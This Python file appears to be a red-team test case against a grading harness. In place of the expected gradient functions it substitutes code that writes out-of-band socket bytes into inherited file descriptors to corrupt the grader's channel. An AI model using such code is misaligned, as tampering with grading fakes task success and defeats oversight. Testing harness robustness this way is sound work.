# attack: send urgent out-of-band bytes into the stream
# asset: grades
# channel: wire
# beats otter: no
# expect: crashed,timed_out,wrong,not_implemented,raised
# place: after
import os
import socket


def channels():
    for descriptor in range(3, 64):
        try:
            yield socket.socket(fileno=os.dup(descriptor))
        except OSError:
            pass


def attack(*args):
    for channel in channels():
        channel.setblocking(True)
        for _ in range(3):
            channel.send(b"x", socket.MSG_OOB)
            channel.send(b"AGW1")
            channel.send(b"y", socket.MSG_OOB)


product_gradients = mse_gradients = neuron_gradients = neuron_batch_gradients = (
    two_layer_gradients
) = attack
